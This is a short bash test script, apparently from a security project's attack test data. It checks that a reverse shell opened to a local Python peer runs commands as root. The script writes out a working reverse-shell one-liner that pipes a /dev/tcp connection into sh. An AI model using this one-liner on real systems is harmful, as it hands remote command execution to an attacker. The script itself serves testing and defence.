#!/usr/bin/env bash
# A reverse shell in two halves: what comes over a connection goes through a pipe into sh, whose answers go straight back.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts

python3 "$peer" operator "$work/port" "$work/answers" 1 &
operator=$!
wait_for "$work/port"
bash -c "exec 3<>/dev/tcp/127.0.0.1/$(<"$work/port"); head -n 2 <&3 | sh >&3 2>&3" || true
wait "$operator"
grep -q 'uid=0' "$work/answers" || fail "the shell did not answer"
